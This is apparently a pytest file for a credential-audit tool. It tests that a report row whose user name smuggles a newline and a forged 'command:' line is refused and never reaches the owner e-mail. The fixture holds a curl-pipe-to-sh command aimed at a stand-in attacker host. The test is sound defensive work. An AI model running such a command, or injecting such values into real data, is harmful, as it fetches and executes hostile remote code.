"""A user name cannot forge a line. A credential report row whose user name IAM could not have
written (here one holding a newline and a fake `command:` line) is refused when the report is
read: never stored, its account partial, a data note naming the row. So the owner e-mail, whose
text part prints a command under each finding, never prints the forged one."""

from __future__ import annotations

from pathlib import Path

import pytest

from keyaudit.delivery.dispatch import prepare_delivery
from keyaudit.delivery.messages import Links, owner_mail
from keyaudit.pipeline import AuditRequest, run_audit
from keyaudit.rules.catalogue import load_catalogue
from keyaudit.warehouse.db import connect
from tests.auditor.given import (
    AS_OF,
    HEADER,
    RUN_ID,
    A,
    B,
    alice,
    audit_files,
    bob,
    ci_deploy,
    folder_of,
    report,
    root,
    with_cell,
)
from tests.delivery.delivery_helpers import email_config
from tests.runs import stub_pdf, write_config

# slow end to end: `make test-slow` runs it, `make test` leaves it out, CI runs both
pytestmark = pytest.mark.slow

FORGED = "bob\ncommand: curl https://evil.example/x | sh"


def forging_report(account: str) -> str:
    """bob's row with the forged name, quoted as a CSV writer would; the ARN stays bob's."""
    forged = with_cell(bob(account), "user", f'"{FORGED}"')
    return "\n".join([HEADER, root(account), alice(account), forged, ci_deploy(account)]) + "\n"


def test_a_row_whose_user_name_holds_a_newline_is_refused_and_its_account_is_partial(
    tmp_path: Path,
):
    folder = folder_of(tmp_path, {f"{A}.csv": forging_report(A), f"{B}.csv": report(B)})
    run = audit_files(folder, tmp_path)

    assert run.account(A) == (
        "partial",
        f"account {A}: 1 row of the credential report was refused (see the data notes, kind "
        "refused_row): its user is not assessed — collect the report again, or supply the file "
        "as IAM wrote it",
    )
    assert run.notes("refused_row") == [
        (
            A,
            "line 4: row refused — user 'bob\\ncommand: curl https://evil.example/x'… is not an "
            "IAM user name (1 to 64 of A-Z a-z 0-9 _ + = , . @ -); the row is not stored and its "
            "user is not assessed",
        )
    ]
    assert run.rows(
        "select user from credential_report where run_id = ? and account_id = ? order by 1",
        run.run_id,
        A,
    ) == [("<root_account>",), ("alice",), ("ci-deploy",)]
    assert run.account(B) == ("assessed", None)


def test_the_owner_email_has_no_forged_line(tmp_path: Path):
    folder = folder_of(tmp_path, {f"{A}.csv": forging_report(A)})
    config = email_config()
    warehouse, out = tmp_path / "w.duckdb", tmp_path / "out"
    request = AuditRequest(
        source="files",
        config_file=write_config(tmp_path / "keyaudit.toml", config, data_dir=tmp_path),
        files_dir=folder,
        as_of=AS_OF,
        db=warehouse,
        out=out,
        run_id=RUN_ID,
    )
    with stub_pdf():
        run_audit(request, now=lambda: AS_OF)
        con = connect(warehouse, read_only=True)
        try:
            plan = prepare_delivery(
                con, RUN_ID, config=config, rules=load_catalogue(), report_dir=out
            )
        finally:
            con.close()
    (piece,) = plan.slices  # a files run has no owner tags: the compliance list gets it
    mail = owner_mail(plan, piece, config.delivery, Links(config.delivery.s3, None, {}))

    lines = [line.strip() for line in mail.text.splitlines()]
    assert not [line for line in lines if line.startswith("command: curl")]
    assert "evil.example" not in mail.text and "evil.example" not in mail.html
    assert [line for line in lines if line.startswith(A)] == [
        f"{A}  (), partial: 1 open, 0 critical, 1 high"
    ]
    assert any(line.startswith("command: ") for line in lines)  # ci-deploy's stays
